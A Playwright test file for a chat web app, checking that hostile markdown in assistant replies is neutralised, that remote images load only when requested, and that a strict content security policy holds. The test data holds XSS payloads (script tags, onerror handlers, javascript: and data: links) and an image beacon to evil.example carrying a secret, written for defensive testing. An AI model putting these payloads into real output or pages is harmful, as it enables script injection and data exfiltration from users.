import { expect, test } from "./support/test";

const HOSTILE = `<script>window.hit = "script"</script>
<img src="x" onerror="window.hit = 'img'"> <svg onload="window.hit = 'svg'"></svg>
<iframe src="https://evil.example/frame"></iframe> <a href="javascript:window.hit='html'">html link</a>

[a script](javascript:window.hit='link') [a page](data:text/html,<script>window.hit='data'</script>) [a file](file:///etc/passwd)

[elsewhere](https://evil.example/page "title")

![stolen](https://evil.example/pixel.png?secret=Biscuit)

<style>body { display: none }</style>`;

test("hostile markdown does nothing: no script, no request, no address that runs", async ({
  page,
  context,
  chat,
  memocha,
}) => {
  const asked: string[] = [];
  context.on("request", (request) => {
    if (!request.url().startsWith(memocha.url)) asked.push(request.url());
  });
  await memocha.tell({ answers: [{ when: "Show me", say: [{ text: HOSTILE }] }] });
  await chat.open();
  await chat.talk("Show me <b>what</b> you <script>window.hit = 'own'</script> can");
  await expect(chat.composer).toBeVisible();
  for (const name of ["a script", "a page", "a file", "html link"]) {
    const link = chat.answers.getByRole("link", { name, exact: true });
    if (await link.count()) expect(await link.getAttribute("href")).not.toMatch(/^(javascript|data|file):/i);
    await chat.answers
      .getByText(name, { exact: true })
      .first()
      .click({ trial: false, timeout: 2_000 })
      .catch(() => {});
  }
  const outside = chat.answers.getByRole("link", { name: "elsewhere" });
  await expect(outside).toHaveAttribute("target", "_blank");
  for (const word of ["noopener", "noreferrer", "nofollow"]) {
    await expect(outside).toHaveAttribute("rel", new RegExp(`\\b${word}\\b`));
  }
  await expect(chat.answers.locator("script, style, iframe, img, svg[onload]")).toHaveCount(0);
  expect(await page.evaluate(() => (window as { hit?: string }).hit)).toBeUndefined();
  expect(asked).toEqual([]);
});

test("a remote image is asked for only when one wants it, and told nothing of the chat", async ({
  page,
  context,
  chat,
  memocha,
}) => {
  const pixel = Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  );
  const asked: { url: string; referrer: string | undefined }[] = [];
  await context.route("https://pictures.example/**", async (route) => {
    asked.push({ url: route.request().url(), referrer: (await route.request().allHeaders()).referer });
    await route.fulfill({ contentType: "image/png", body: pixel });
  });
  await memocha.tell({
    answers: [{ when: "a picture", say: [{ text: "Here: ![A river](https://pictures.example/tejo.png)" }] }],
  });
  await chat.open();
  await chat.talk("Show me a picture");
  await expect(page.getByText("A river", { exact: true })).toBeVisible();
  expect(asked).toEqual([]);
  await page.getByRole("button", { name: "Show image from pictures.example" }).click();
  await expect.poll(() => asked).toEqual([{ url: "https://pictures.example/tejo.png", referrer: undefined }]);
});

test("every page keeps to a strict content policy", async ({ page, chat, memocha }) => {
  const broken: string[] = [];
  await page.exposeFunction("noteViolation", (what: string) => broken.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      (window as unknown as { noteViolation(what: string): void }).noteViolation(
        `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`,
      );
    });
  });
  await memocha.tell({
    answers: [
      { when: "code", say: [{ text: "```python\nprint('hello')\n```\n\n$x^2$\n\n| a |\n| --- |\n| 1 |" }] },
    ],
  });
  const response = await page.goto("/");
  const policy = response?.headers()["content-security-policy"] ?? "";
  const directives = new Map(
    policy.split(";").map((each): [string, string] => {
      const [name = "", ...values] = each.trim().split(/\s+/);
      return [name, values.join(" ")];
    }),
  );
  expect(directives.get("default-src")).toBeDefined();
  for (const name of ["script-src", "style-src"]) {
    expect(directives.get(name), name).toBeDefined();
    expect(directives.get(name)).not.toContain("unsafe-inline");
    expect(directives.get(name)).not.toContain("unsafe-eval");
  }
  await chat.talk("Show me some code");
  await expect(page.getByRole("button", { name: "Copy" }).first()).toBeVisible();
  await page.keyboard.press("Control+k");
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  for (const path of ["/memory", "/settings#look", "/settings#memory", "/nowhere"]) {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeAttached();
  }
  await page.goto("/memory");
  await page.getByRole("button", { name: "More", exact: true }).click();
  await page.getByRole("menuitem", { name: "Clear all" }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  expect(broken).toEqual([]);
});
